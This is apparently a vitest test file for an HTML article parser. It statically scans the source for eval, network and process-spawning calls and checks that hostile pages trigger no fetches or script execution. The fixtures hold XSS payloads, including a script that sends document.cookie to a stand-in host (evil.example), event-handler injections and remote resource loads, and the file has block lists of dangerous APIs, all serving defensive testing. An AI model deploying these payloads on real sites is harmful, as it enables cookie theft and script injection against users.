/**
 * No surprises: the library never evaluates input, never touches the network, and the HTML cleaner
 * never executes scripts or fetches resources.
 *   1. The source, read as TypeScript syntax: no eval, Function constructor, vm, child_process,
 *      fetch, XMLHttpRequest, WebSocket, EventSource, sendBeacon, importScripts, dynamic import of a
 *      computed name; no Node built-in outside src/node and src/cli (the browser-safe core); network
 *      modules (pg-promise, node:net, http, ...) only in the PostgreSQL-backed index (src/node/db),
 *      which connects only where the caller gives a connection string.
 *   2. At run time: hostile pages go through parseArticle and the search index with fetch,
 *      XMLHttpRequest, WebSocket, EventSource, eval, Function, setTimeout and setInterval replaced by
 *      spies; none is called, and no script text reaches the record.
 */
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import ts from "typescript";
import { readFileSync } from "node:fs";
import { relative } from "node:path";
import { ROOT, sourceFiles } from "./regex-inventory.js";
import { parseArticle, normalize, repair } from "../../src/index.js";
import { createSearchIndex, importSearchIndex } from "../../src/search/index.js";

interface Finding {
  where: string;
  what: string;
}

const NODE_ONLY_DIRS = ["src/node/", "src/cli/"];
const NETWORK_DIR = "src/node/db/";
const FORBIDDEN_CALLS = new Set(["eval", "Function", "fetch", "importScripts", "setTimeout", "setInterval", "setImmediate", "queueMicrotask"]);
const FORBIDDEN_NAMES = new Set(["XMLHttpRequest", "WebSocket", "EventSource", "sendBeacon", "Worker", "SharedWorker"]);
const NETWORK_MODULES = /^(?:node:)?(?:net|tls|http|https|http2|dgram|dns)(?:\/|$)|^pg-promise$|^pg$/;
const EXEC_MODULES = /^(?:node:)?(?:child_process|vm|worker_threads|cluster|inspector)$/;
/** Node built-ins, with or without the node: prefix. */
const BUILTINS = new Set(["fs", "path", "os", "crypto", "url", "util", "stream", "buffer", "events", "process", "zlib", "readline", "assert", "timers", "string_decoder", "perf_hooks", "module", "tty", "v8"]);
const isBuiltin = (m: string) => m.startsWith("node:") || BUILTINS.has(m.split("/")[0]!);

/** Timers are allowed where the CLI draws its progress bar and the database index waits for connections. */
const TIMER_DIRS = ["src/cli/", "src/node/db/"];

const scan = (file: string) => scanText(relative(ROOT, file), readFileSync(file, "utf8"));

/** Findings in one source text, `rel` being its path from the repository root. */
function scanText(rel: string, text: string): Finding[] {
  const sf = ts.createSourceFile(rel, text, ts.ScriptTarget.ES2022, true, ts.ScriptKind.TS);
  const out: Finding[] = [];
  const at = (n: ts.Node) => `${rel}:${sf.getLineAndCharacterOfPosition(n.getStart(sf)).line + 1}`;
  const nodeOnly = NODE_ONLY_DIRS.some((d) => rel.startsWith(d));
  const moduleCheck = (n: ts.Node, name: string) => {
    if (EXEC_MODULES.test(name)) out.push({ where: at(n), what: `imports ${name}` });
    if (NETWORK_MODULES.test(name) && !rel.startsWith(NETWORK_DIR)) out.push({ where: at(n), what: `imports the network module ${name} outside ${NETWORK_DIR}` });
    if (isBuiltin(name) && !nodeOnly) out.push({ where: at(n), what: `imports the Node built-in ${name} in browser-safe code` });
  };
  const visit = (n: ts.Node): void => {
    if ((ts.isImportDeclaration(n) || ts.isExportDeclaration(n)) && n.moduleSpecifier && ts.isStringLiteral(n.moduleSpecifier)) moduleCheck(n, n.moduleSpecifier.text);
    if (ts.isCallExpression(n)) {
      const callee = n.expression;
      if (callee.kind === ts.SyntaxKind.ImportKeyword) {
        const arg = n.arguments[0];
        if (!arg || !ts.isStringLiteral(arg)) out.push({ where: at(n), what: "import() of a computed module name" });
        else moduleCheck(n, arg.text);
      } else if (ts.isIdentifier(callee)) {
        if (callee.text === "require") out.push({ where: at(n), what: "require()" });
        else if (FORBIDDEN_CALLS.has(callee.text) && !(callee.text.startsWith("set") && TIMER_DIRS.some((d) => rel.startsWith(d)))) out.push({ where: at(n), what: `calls ${callee.text}()` });
      } else if (ts.isPropertyAccessExpression(callee) && ["eval", "fetch"].includes(callee.name.text) && ts.isIdentifier(callee.expression) && ["globalThis", "window", "self", "global"].includes(callee.expression.text)) {
        out.push({ where: at(n), what: `calls ${callee.expression.text}.${callee.name.text}()` });
      }
    }
    if (ts.isNewExpression(n) && ts.isIdentifier(n.expression) && (n.expression.text === "Function" || FORBIDDEN_NAMES.has(n.expression.text))) out.push({ where: at(n), what: `new ${n.expression.text}` });
    if (ts.isIdentifier(n) && FORBIDDEN_NAMES.has(n.text)) out.push({ where: at(n), what: `mentions ${n.text}` });
    ts.forEachChild(n, visit);
  };
  visit(sf);
  return out;
}

describe("the source never evaluates, spawns or fetches", () => {
  const files = sourceFiles();
  it("scans every file of src/", () => {
    expect(files.length).toBeGreaterThan(50);
  });
  it("has no eval, Function, child_process, vm, network access outside src/node/db, or Node built-ins in browser-safe code", () => {
    expect(files.flatMap(scan).map((f) => `${f.where}: ${f.what}`)).toEqual([]);
  });
  it("the scanner finds what it looks for (planted samples)", () => {
    const core = 'import { exec } from "node:child_process"; import net from "node:net"; import { readFile } from "node:fs"; eval("1"); new Function("x"); fetch("http://x"); const m = await import(name); const x = new XMLHttpRequest(); setTimeout(f, 1);';
    expect(scanText("src/extract/sample.ts", core).map((f) => f.what)).toEqual([
      "imports node:child_process",
      "imports the Node built-in node:child_process in browser-safe code",
      "imports the network module node:net outside src/node/db/",
      "imports the Node built-in node:net in browser-safe code",
      "imports the Node built-in node:fs in browser-safe code",
      "calls eval()",
      "new Function",
      "calls fetch()",
      "import() of a computed module name",
      "new XMLHttpRequest",
      "mentions XMLHttpRequest",
      "calls setTimeout()",
    ]);
    // the same built-ins are fine in Node-only code, timers in the CLI, the network in the database index
    expect(scanText("src/node/files.ts", 'import { readFile } from "node:fs/promises";').map((f) => f.what)).toEqual([]);
    expect(scanText("src/cli/io.ts", "setInterval(draw, 100);").map((f) => f.what)).toEqual([]);
    expect(scanText("src/node/db/connection.ts", 'const pg = await import("pg-promise");').map((f) => f.what)).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------------

const HOSTILE_PAGES: Array<[string, string]> = [
  ["script, img onerror, link, iframe", `<!doctype html><html><head><title>Hội nghị tổng kết</title>
<link rel="stylesheet" href="http://evil.example/x.css"><link rel="preload" href="http://evil.example/font.woff">
<script>fetch("http://evil.example/steal?c=" + document.cookie); alert("pwned-script")</script>
<script src="http://evil.example/x.js"></script>
<meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/">
<style>@import url("http://evil.example/y.css"); body { background: url(http://evil.example/bg.png) }</style>
</head><body><article><h1>UBND phường Tân Giang tổ chức hội nghị tổng kết</h1>
<p>Chiều ngày 07/01/2021 tại hội trường UBND phường Tân Giang đã diễn ra hội nghị tổng kết công tác năm 2020.</p>
<img src="x" onerror="alert('pwned-onerror')"><iframe src="http://evil.example/frame" onload="alert('pwned-iframe')"></iframe>
<object data="http://evil.example/o.swf"></object><embed src="http://evil.example/e.swf">
<svg onload="alert('pwned-svg')"><script>alert('pwned-svg-script')</script></svg>
<a href="javascript:alert('pwned-href')">Xem thêm</a>
<form action="http://evil.example/post"><input name="q" onfocus="alert('pwned-input')" autofocus></form>
<noscript><img src="http://evil.example/pixel.gif"></noscript><template><script>alert('pwned-template')</script></template>
<p>Đồng chí Tống Thị Quỳnh Hoa – Ủy viên Ban thường vụ Thành ủy phát biểu tại hội nghị.</p></article></body></html>`],
  ["scripts that look like text", `<html><body><p>Sáng ngày 12/3/2024, UBND xã tổ chức hội nghị.</p><script type="text/plain">Chủ tịch UBND xã pwned-plain</script><script>var s = "</p><p>pwned-string";</script><p>Kết thúc hội nghị.</p></body></html>`],
  ["unclosed script", `<html><body><p>Sáng ngày 12/3/2024, UBND xã tổ chức hội nghị.</p><script>alert('pwned-unclosed')`],
  ["entities and data URLs", `<p>Hội nghị &lt;script&gt;alert('x')&lt;/script&gt; <img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"></p>`],
];

type Spy = { name: string; calls: number };
let spies: Spy[] = [];
let restore: Array<() => void> = [];

function spyOnGlobal(name: string): void {
  const g = globalThis as Record<string, unknown>;
  const had = Object.prototype.hasOwnProperty.call(g, name);
  const original = g[name];
  const spy: Spy = { name, calls: 0 };
  spies.push(spy);
  const record = () => {
    spy.calls++;
  };
  const target = typeof original === "function" ? (original as (...a: unknown[]) => unknown) : function () {};
  g[name] = new Proxy(target, {
    apply(t, self, args) {
      record();
      return Reflect.apply(t, self, args);
    },
    construct(t, args) {
      record();
      return Reflect.construct(t, args);
    },
  });
  restore.push(() => {
    if (had) g[name] = original;
    else delete g[name];
  });
}

describe("hostile pages: nothing is fetched, evaluated or scheduled, no script text in the record", () => {
  beforeEach(() => {
    spies = [];
    restore = [];
    for (const name of ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "eval", "Function", "setTimeout", "setInterval", "setImmediate", "queueMicrotask", "importScripts", "Image"]) spyOnGlobal(name);
  });
  afterEach(() => {
    for (const r of restore.reverse()) r();
  });

  it("the spies see calls (so a silent pass means no call)", () => {
    const g = globalThis as unknown as { eval: (s: string) => unknown; queueMicrotask: (f: () => void) => void; Function: FunctionConstructor };
    g.eval("1 + 1");
    g.queueMicrotask(() => {});
    new g.Function("return 1");
    expect(spies.filter((s) => s.calls > 0).map((s) => s.name)).toEqual(["eval", "Function", "queueMicrotask"]);
  });

  it.each(HOSTILE_PAGES)("%s", (_name, page) => {
    const records = [parseArticle(page), parseArticle(page, { html: true }), parseArticle(page, { html: false })];
    normalize(page);
    repair(page);
    const index = createSearchIndex();
    records.forEach((r, i) => index.add({ ...r, id: `r${i}` }));
    index.search("hội nghị pwned");
    // reading an index file validates it with zod: that too must run without eval (zod jitless)
    importSearchIndex(JSON.parse(JSON.stringify(index.export()))).search("hội nghị");
    const called = spies.filter((s) => s.calls > 0).map((s) => `${s.name} x${s.calls}`);
    for (const r of restore.reverse()) r();
    restore = [];
    expect(called).toEqual([]);
    // the HTML readings (detected and forced) carry no script, handler or URL text
    for (const r of records.slice(0, 2)) {
      const all = JSON.stringify(r);
      expect(all).not.toMatch(/pwned-(script|svg|template|unclosed|string|plain)|document\.cookie|evil\.example/);
    }
  });
});
